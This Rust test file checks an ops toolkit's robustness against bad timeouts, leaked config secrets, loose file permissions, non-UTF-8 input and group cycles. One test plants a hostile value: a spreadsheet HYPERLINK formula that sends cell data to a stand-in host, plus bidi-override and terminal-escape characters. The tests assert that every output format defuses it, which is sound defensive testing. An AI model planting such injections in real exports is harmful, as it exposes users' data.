//! What a careless config, a hostile value or a bad input line must not do: panic on a timeout
//! of NaN, leak a secret through a syntax error, leave the catalog readable by everyone, run as
//! a formula in a spreadsheet, reorder a line on a terminal, or cost the valid lines of stdin.

use std::os::unix::fs::PermissionsExt;

use serde_json::Value;

use crate::support::*;

/// Exit status 2 (a usage or configuration error, not a panic's 101) and `want` on stderr.
fn refused(env: &Env, tool: Tool, args: &[&str], want: &str) {
    let out = env.run(tool, args);
    assert_status(&out, 2);
    assert!(stderr(&out).contains(want), "{args:?}: {}", stderr(&out));
    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
}

#[test]
fn timeouts_and_concurrency_no_setting_can_mean_are_usage_errors() {
    let env = Env::new();
    let seconds = "is not a number of seconds";
    for (tool, args) in [
        (tool!("scan-hosts"), &["--connect-timeout", "nan", "h"][..]),
        (tool!("scan-hosts"), &["--command-timeout", "inf", "h"]),
        (tool!("scan-hosts"), &["--command-timeout=-1", "h"]),
        (tool!("crawl-switches"), &["--timeout", "NaN", "10.0.0.1"]),
        (tool!("sync-ec2"), &["--timeout", "nan"]),
        (tool!("sshec2"), &["--timeout", "nan", "web-1"]),
        (tool!("whatis-ip"), &["--dns-timeout", "nan", "10.0.0.1"]),
        (tool!("whatis-host"), &["--dns-timeout", "1e309", "web-1"]),
    ] {
        refused(&env, tool, args, seconds);
    }
    for (tool, args) in [
        (
            tool!("scan-hosts"),
            &["--concurrency", "18446744073709551615", "h"][..],
        ),
        (tool!("scan-hosts"), &["--concurrency", "0", "h"]),
        (
            tool!("crawl-switches"),
            &["--concurrency", "99999", "10.0.0.1"],
        ),
    ] {
        refused(&env, tool, args, "");
    }
    // The same numbers in the config, in every section that takes one.
    for (section, tool, args) in [
        (
            "[dns]\ntimeout = nan",
            tool!("whatis-ip"),
            &["10.0.0.1"][..],
        ),
        ("[ssh]\nconnect_timeout = nan", tool!("scan-hosts"), &["h"]),
        ("[ssh]\ncommand_timeout = inf", tool!("scan-hosts"), &["h"]),
        (
            "[snmp]\ntimeout = nan",
            tool!("crawl-switches"),
            &["10.0.0.1"],
        ),
        (
            "[[switch]]\naddress = \"10.0.0.1\"\ntimeout = -inf",
            tool!("crawl-switches"),
            &[],
        ),
        ("[ec2]\ntimeout = nan", tool!("sync-ec2"), &[]),
        ("[ssh]\nconcurrency = 0", tool!("scan-hosts"), &["h"]),
    ] {
        let config = write_config(&env, &format!("{section}\n"));
        let mut all = vec!["--config", config.to_str().unwrap()];
        all.extend_from_slice(args);
        refused(&env, tool, &all, "config ");
    }
}

#[test]
fn a_syntax_error_names_the_line_but_never_prints_it() {
    let env = Env::new();
    let config = env.dir.path().join("readable.toml");
    // Readable by everyone, and broken before the permission check could refuse it.
    std::fs::write(
        &config,
        "[snmp]\ncommunity = \"Sup3rS3cret\nversion = \"2c\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = env.run(
        tool!("crawl-switches"),
        &["--config", config.to_str().unwrap()],
    );
    assert_status(&out, 2);
    let err = stderr(&out);
    assert!(!err.contains("Sup3r"), "{err}");
    assert!(err.contains("line 2, column"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
}

#[test]
fn a_new_catalog_is_private_whatever_the_umask() {
    let env = Env::new();
    let dir = env.dir.path().join("new/opskit");
    let catalog = dir.join("catalog.db");
    let out = env
        .cmd(tool!("scan-hosts"))
        .env("OPSKIT_CATALOG", &catalog)
        .arg("--local")
        .output()
        .unwrap();
    assert_status(&out, 0);
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&dir), 0o700);
    assert_eq!(mode(&catalog), 0o600);
    for extra in ["catalog.db-wal", "catalog.db-shm"] {
        let p = dir.join(extra);
        if p.exists() {
            assert_eq!(mode(&p), 0o600, "{extra}");
        }
    }
}

/// This machine scanned with a custom fact whose value is made to attack each output format.
fn hostile_fact_catalog() -> (Env, String, String) {
    let env = Env::new();
    let evil = "=HYPERLINK(\"http://x/\"&A1)\u{202e}gnp.exe\u{9b}2J";
    let config = write_config(
        &env,
        &format!(
            "[[fact]]\nname = \"evil\"\ncommand = [\"printf\", \"%s\", {}]\n",
            serde_json::to_string(evil).unwrap()
        ),
    );
    let config = config.to_str().unwrap().to_string();
    let out = env.run(tool!("scan-hosts"), &["--config", &config, "--local"]);
    assert_status(&out, 0);
    (env, config, evil.to_string())
}

#[test]
fn hostile_values_are_defused_in_csv_json_and_tables() {
    let (env, config, evil) = hostile_fact_catalog();
    let run = |format: &str| {
        let out = env.run(
            tool!("host-where"),
            &[
                "--config", &config, "--format", format, "-f", "evil", "evil",
            ],
        );
        assert_status(&out, 0);
        stdout(&out)
    };
    // CSV: a formula no more, and no raw control or bidi character.
    let csv = run("csv");
    assert!(csv.starts_with("\"'=HYPERLINK("), "{csv}");
    assert!(csv.contains("\\u{202e}") && csv.contains("\\x9b"), "{csv}");
    // JSON: the same string, with the C1 CSI and the override as \u escapes.
    let json = run("jsonl");
    assert!(
        json.contains("\\u202e") && json.contains("\\u009b"),
        "{json}"
    );
    assert!(
        !json.contains('\u{202e}') && !json.contains('\u{9b}'),
        "{json}"
    );
    let v: Value = serde_json::from_str(json.trim()).unwrap();
    assert_eq!(v["evil"], evil);
    // Tables and tsv: visible escapes.
    for format in ["table", "tsv"] {
        let text = run(format);
        assert!(text.contains("\\u{202e}gnp.exe\\x9b2J"), "{format}: {text}");
        assert!(
            !text.contains('\u{202e}') && !text.contains('\u{9b}'),
            "{text}"
        );
    }
}

#[test]
fn a_line_of_stdin_that_is_not_text_is_named_and_the_others_answered() {
    let env = Env::new();
    assert_status(&env.run(tool!("scan-hosts"), &["--local"]), 0);
    let mut cmd = env.cmd(tool!("pkg-where"));
    cmd.args(["-f", "package"]);
    let out = run_with_stdin(&mut cmd, b"dpkg\n\xff\xfe latin\xe9\nbash\n");
    assert_status(&out, 1);
    let rows: Vec<String> = stdout(&out).lines().map(str::to_string).collect();
    assert!(rows.contains(&"dpkg".to_string()), "{rows:?}");
    assert!(rows.contains(&"bash".to_string()), "{rows:?}");
    assert_eq!(
        stderr(&out),
        "pkg-where: stdin line 2: not UTF-8 text, skipped\n"
    );
}

#[test]
fn scan_hosts_groups_name_their_cycle_and_expand_deep_nesting_once() {
    let env = Env::new();
    let cycle = write_config(&env, "[groups]\na = [\"b\"]\nb = [\"a\"]\n");
    let out = env.run(
        tool!("scan-hosts"),
        &["--config", cycle.to_str().unwrap(), "a"],
    );
    assert_status(&out, 2);
    assert!(
        stderr(&out).contains("[groups] has a cycle: a -> b -> a"),
        "{}",
        stderr(&out)
    );
    // Twelve members at each of eight levels (12^8 paths if each were walked), ending at one
    // port nothing listens on: one target, one failure, at once.
    let mut text = String::from("[groups]\n");
    for level in 0..8 {
        let member = if level == 7 {
            "\"root@127.0.0.1:1\"".to_string()
        } else {
            format!("\"g{}\"", level + 1)
        };
        text.push_str(&format!("g{level} = [{}]\n", vec![member; 12].join(", ")));
    }
    let deep = write_config(&env, &text);
    let out = env.run(
        tool!("scan-hosts"),
        &["--config", deep.to_str().unwrap(), "g0"],
    );
    assert_status(&out, 1);
    assert_eq!(stderr(&out).lines().count(), 1, "{}", stderr(&out));
}
